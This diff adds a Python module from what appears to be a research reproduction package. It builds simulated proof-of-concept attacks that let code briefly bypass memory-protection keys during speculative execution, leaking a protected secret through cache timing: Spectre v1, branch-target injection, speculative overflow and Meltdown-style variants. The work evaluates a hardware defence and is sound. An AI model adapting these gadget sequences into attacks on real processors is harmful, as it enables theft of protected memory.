@@ -1,0 +1,362 @@
+"""Proof-of-concept transient-execution attacks against speculative WRPKRU.
+
+Three gadget builders mirroring the paper's vulnerability catalogue:
+
+* :func:`build_spectre_v1_poc` — Fig. 12(c) / Listing 1: a mispredicted
+  conditional branch transiently executes a WRPKRU that *enables* access
+  to the protected page, letting a dependent load chain transmit the
+  secret through the cache (measured in Fig. 13).
+* :func:`build_spectre_bti_poc` — Fig. 12(d): an indirect call whose
+  BTB entry was trained to point at a permission-upgrading gadget.
+* :func:`build_speculative_overflow_poc` — SSIII-C: a transient
+  Write-Disable -> Write-Enable upgrade lets a squashed store forward a
+  corrupted value to a younger load (Kiriansky-style speculative buffer
+  overflow), unless forwarding is blocked.
+
+Every builder returns an :class:`AttackProgram` whose ``probe_address``
+method maps transmitted values to probe-array addresses, so the
+Flush+Reload receiver (:mod:`repro.attacks.flush_reload`) can decode
+what leaked.
+"""
+
+from __future__ import annotations
+
+from typing import NamedTuple
+
+from ..isa.builder import ProgramBuilder
+from ..isa.program import Program
+from ..isa.registers import EAX, SP
+from ..mpk.pkru import make_pkru
+
+#: Probe-array stride: one value maps to one 512-byte-separated line.
+PROBE_STRIDE = 512
+
+#: Value array1 holds at the in-bounds training index.
+TRAIN_VALUE = 72
+#: The secret byte at the out-of-bounds/protected index (Fig. 13).
+SECRET_VALUE = 101
+
+_SECRET_PKEY = 1
+_LOCK = make_pkru(disabled=[_SECRET_PKEY])
+_LOCK_WRITES = make_pkru(write_disabled=[_SECRET_PKEY])
+_UNLOCK = 0
+
+
+class AttackProgram(NamedTuple):
+    """A built PoC: the program plus the addresses the receiver probes."""
+
+    program: Program
+    probe_base: int
+    stride: int
+    num_values: int
+    train_value: int
+    secret_value: int
+
+    def probe_address(self, value: int) -> int:
+        """Probe-array address that caches iff *value* was transmitted."""
+        return self.probe_base + value * self.stride
+
+
+def _flush_probe_lines(b, array2, values) -> None:
+    """Emit clflush of the probe lines for each value in *values*."""
+    for value in values:
+        b.li(8, value * PROBE_STRIDE)
+        b.add(8, 5, 8)
+        b.clflush(8, 0)
+
+
+def build_spectre_v1_poc(
+    train_iterations: int = 24,
+    train_value: int = TRAIN_VALUE,
+    secret_value: int = SECRET_VALUE,
+    num_values: int = 128,
+) -> AttackProgram:
+    """Listing 1 as a runnable program.
+
+    The victim is ``if (cond) { wrpkru(enable); y = array2[array1[X] *
+    stride]; wrpkru(disable); }``.  Training runs with ``cond = 1`` and
+    ``X = 0`` (value ``train_value``); the attack flips ``cond`` to 0
+    and ``X`` to the protected slot (value ``secret_value``), flushes
+    the ``cond`` cache line so the branch resolves late, and relies on
+    the not-taken prediction to execute the block transiently.
+    """
+    b = ProgramBuilder()
+    ctrl = b.region("ctrl", 4096, init={0: 1, 64: 0})
+    array1 = b.region(
+        "array1", 4096, pkey=_SECRET_PKEY,
+        init={0: train_value, 8: secret_value},
+    )
+    array2 = b.region("array2", num_values * PROBE_STRIDE + 4096)
+
+    b.label("main")
+    b.li(EAX, _LOCK)
+    b.wrpkru()                      # commit: secret page locked
+    b.li(2, ctrl.base)              # r2 -> ctrl
+    b.li(4, array1.base)            # r4 -> array1
+    b.li(5, array2.base)            # r5 -> array2
+
+    b.li(7, train_iterations)
+    b.label("train_loop")
+    b.call("victim")
+    b.addi(7, 7, -1)
+    b.bne(7, 0, "train_loop")
+
+    # Switch to the attack phase: cond = 0, X = 8 (the protected slot).
+    b.li(3, 0)
+    b.st(3, 2, 0)
+    b.li(3, 8)
+    b.st(3, 2, 64)
+    # Flush the probe lines touched during training, and the cond line
+    # so the mispredicted branch resolves slowly.
+    _flush_probe_lines(b, array2, (train_value, secret_value))
+    b.clflush(2, 0)
+    b.lfence()                      # order the flushes before the call
+    b.call("victim")
+    b.halt()
+
+    b.label("victim")
+    b.ld(3, 2, 0)                   # cond (slow after the flush)
+    b.ld(10, 2, 64)                 # X (separate line: stays fast)
+    b.beq(3, 0, "victim_end")       # trained not-taken
+    b.li(EAX, _UNLOCK)
+    b.wrpkru()                      # transient permission upgrade
+    b.add(11, 4, 10)
+    b.ld(6, 11, 0)                  # secret = array1[X]
+    b.slli(6, 6, 9)                 # * PROBE_STRIDE (512)
+    b.add(8, 5, 6)
+    b.ld(9, 8, 0)                   # transmit via the cache
+    b.li(EAX, _LOCK)
+    b.wrpkru()
+    b.label("victim_end")
+    b.ret()
+
+    return AttackProgram(
+        b.build(), array2.base, PROBE_STRIDE, num_values, train_value,
+        secret_value,
+    )
+
+
+def build_spectre_bti_poc(
+    train_iterations: int = 24,
+    train_value: int = TRAIN_VALUE,
+    secret_value: int = SECRET_VALUE,
+    num_values: int = 128,
+) -> AttackProgram:
+    """Fig. 12(d): branch-target injection into a WRPKRU gadget.
+
+    The victim makes an indirect call through a function pointer held in
+    memory.  Training points it at ``gadget`` (which legitimately
+    unlocks, reads ``array1[X]`` with the in-bounds ``X``, relocks, and
+    returns).  The attack rewrites the pointer to ``benign`` and flushes
+    its cache line; the BTB still predicts ``gadget``, so the gadget
+    runs transiently with the malicious ``X``.
+    """
+    b = ProgramBuilder()
+    ctrl = b.region("ctrl", 4096, init={0: 1, 64: 0})
+    array1 = b.region(
+        "array1", 4096, pkey=_SECRET_PKEY,
+        init={0: train_value, 8: secret_value},
+    )
+    array2 = b.region("array2", num_values * PROBE_STRIDE + 4096)
+    fnptr = b.region("fnptr", 4096)
+    stack = b.region("stack", 4096)
+
+    b.label("main")
+    b.li(SP, stack.base + stack.size)
+    b.li(EAX, _LOCK)
+    b.wrpkru()
+    b.li(2, ctrl.base)
+    b.li(4, array1.base)
+    b.li(5, array2.base)
+    b.li(13, fnptr.base)
+
+    # Point the function pointer at the gadget for training; the target
+    # PCs are patched into the li immediates after the labels bind.
+    gadget_li = b.li(12, 0)
+    b.st(12, 13, 0)
+    b.li(7, train_iterations)
+    b.label("train_loop")
+    b.call("victim")
+    b.addi(7, 7, -1)
+    b.bne(7, 0, "train_loop")
+
+    # Attack: retarget the pointer at the benign function, set X to the
+    # protected slot, flush probe lines and the pointer line so the BTB
+    # prediction wins the race against the real target.
+    benign_li = b.li(12, 0)
+    b.st(12, 13, 0)
+    b.li(3, 8)
+    b.st(3, 2, 64)
+    _flush_probe_lines(b, array2, (train_value, secret_value))
+    b.clflush(13, 0)
+    b.lfence()                      # order the flushes before the call
+    b.call("victim")
+    b.halt()
+
+    b.label("victim")
+    b.addi(SP, SP, -8)
+    b.st(31, SP, 0)                 # save RA (victim is non-leaf)
+    b.ld(12, 13, 0)                 # load the function pointer (slow)
+    b.callr(12)
+    b.ld(31, SP, 0)
+    b.addi(SP, SP, 8)
+    b.ret()
+
+    gadget_pc = b.label("gadget")
+    b.ld(10, 2, 64)                 # X
+    b.li(EAX, _UNLOCK)
+    b.wrpkru()
+    b.add(11, 4, 10)
+    b.ld(6, 11, 0)
+    b.slli(6, 6, 9)
+    b.add(8, 5, 6)
+    b.ld(9, 8, 0)
+    b.li(EAX, _LOCK)
+    b.wrpkru()
+    b.ret()
+
+    benign_pc = b.label("benign")
+    b.addi(9, 9, 1)
+    b.ret()
+
+    gadget_li.imm = gadget_pc
+    benign_li.imm = benign_pc
+
+    return AttackProgram(
+        b.build(), array2.base, PROBE_STRIDE, num_values, train_value,
+        secret_value,
+    )
+
+
+def build_speculative_overflow_poc(
+    train_iterations: int = 24,
+    legit_value: int = 33,
+    attacker_value: int = 77,
+    num_values: int = 128,
+) -> AttackProgram:
+    """SSIII-C: speculative buffer overflow via store-to-load forwarding.
+
+    The protected slot is Write-Disabled outside the victim block.  The
+    block legitimately unlocks, stores a value taken from ``ctrl+64``,
+    reloads the slot, transmits the loaded value, and relocks.  During
+    training the stored value is the slot's legitimate content; the
+    attack sets ``cond = 0`` (so the block is only executed
+    transiently) and plants ``attacker_value`` as the store operand.
+    With unrestricted store-to-load forwarding the reload returns the
+    corrupted value and the probe line for ``attacker_value`` becomes
+    cached; SpecMPK disables forwarding from the checked store, so the
+    reload waits for the Active List head and is squashed first.
+    """
+    b = ProgramBuilder()
+    ctrl = b.region("ctrl", 4096, init={0: 1, 64: legit_value})
+    slot = b.region("slot", 4096, pkey=_SECRET_PKEY, init={0: legit_value})
+    array2 = b.region("array2", num_values * PROBE_STRIDE + 4096)
+
+    b.label("main")
+    b.li(EAX, _LOCK_WRITES)
+    b.wrpkru()                      # commit: slot write-disabled
+    b.li(2, ctrl.base)
+    b.li(4, slot.base)
+    b.li(5, array2.base)
+
+    b.li(7, train_iterations)
+    b.label("train_loop")
+    b.call("victim")
+    b.addi(7, 7, -1)
+    b.bne(7, 0, "train_loop")
+
+    b.li(3, 0)
+    b.st(3, 2, 0)                   # cond = 0
+    b.li(3, attacker_value)
+    b.st(3, 2, 64)                  # plant the corrupting operand
+    _flush_probe_lines(b, array2, (legit_value, attacker_value))
+    b.clflush(2, 0)
+    b.lfence()                      # order the flushes before the call
+    b.call("victim")
+    b.halt()
+
+    b.label("victim")
+    b.ld(3, 2, 0)                   # cond (slow during the attack)
+    b.ld(14, 2, 64)                 # the value to store
+    b.beq(3, 0, "victim_end")
+    b.li(EAX, _UNLOCK)
+    b.wrpkru()                      # transient WD -> WE upgrade
+    b.st(14, 4, 0)                  # (transiently) corrupt the slot
+    b.ld(6, 4, 0)                   # forwarding returns the corruption
+    b.slli(6, 6, 9)
+    b.add(8, 5, 6)
+    b.ld(9, 8, 0)                   # transmit
+    b.li(EAX, _LOCK_WRITES)
+    b.wrpkru()
+    b.label("victim_end")
+    b.ret()
+
+    return AttackProgram(
+        b.build(), array2.base, PROBE_STRIDE, num_values, legit_value,
+        attacker_value,
+    )
+
+
+def build_chosen_code_poc(
+    secret_value: int = SECRET_VALUE,
+    num_values: int = 128,
+) -> AttackProgram:
+    """Chosen-code attack (SSII-C, SSIX-B2): transient execution past a
+    faulting instruction.
+
+    A load that is guaranteed to fault architecturally (it touches a
+    locked page) drains slowly toward retirement behind a long divide
+    chain; the *younger* instructions — a permission-upgrading WRPKRU
+    and a secret-transmitting load pair — execute transiently in its
+    shadow, Meltdown-style.  The program always ends with the precise
+    protection fault; what differs between microarchitectures is
+    whether the probe line got cached first.
+    """
+    b = ProgramBuilder()
+    array1 = b.region(
+        "array1", 4096, pkey=_SECRET_PKEY, init={8: secret_value}
+    )
+    trap = b.region("trap", 4096, pkey=3, init={0: 1})
+    array2 = b.region("array2", num_values * PROBE_STRIDE + 4096)
+
+    delay = b.region("delay", 4096, init={0: 1 << 50})
+
+    b.label("main")
+    b.li(4, array1.base)
+    b.li(5, array2.base)
+    b.li(13, trap.base)
+    b.li(12, delay.base)
+    # Warm the secret's and the delay lines legally (still unlocked),
+    # as the victim's own use of the pages would; then lock the pages.
+    b.ld(9, 4, 0)
+    b.ld(11, 12, 0)
+    b.li(EAX, make_pkru(disabled=[_SECRET_PKEY, 3]))
+    b.wrpkru()                      # commit: secret and trap pages locked
+    b.li(8, secret_value * PROBE_STRIDE)
+    b.add(8, 5, 8)
+    b.clflush(8, 0)
+    b.lfence()
+
+    # Delay retirement so the faulting load sits far from the head
+    # while its transient shadow executes: the divide chain is seeded
+    # by a post-fence load, so it cannot start early.
+    b.ld(2, 12, 0)                  # 1 << 50, from the warmed line
+    b.li(3, 3)
+    for _ in range(10):
+        b.div(2, 2, 3)
+    b.add(14, 2, 0)                 # serialise the chain's tail
+
+    b.ld(9, 13, 0)                  # FAULTS architecturally (pKey 3)
+
+    # The chosen transient code after the faulting instruction.
+    b.li(EAX, _UNLOCK)
+    b.wrpkru()                      # transient permission upgrade
+    b.ld(6, 4, 8)                   # secret = array1[8]
+    b.slli(6, 6, 9)
+    b.add(8, 5, 6)
+    b.ld(10, 8, 0)                  # transmit
+    b.halt()                        # never reached: the fault wins
+
+    return AttackProgram(
+        b.build(), array2.base, PROBE_STRIDE, num_values, 0, secret_value,
+    )
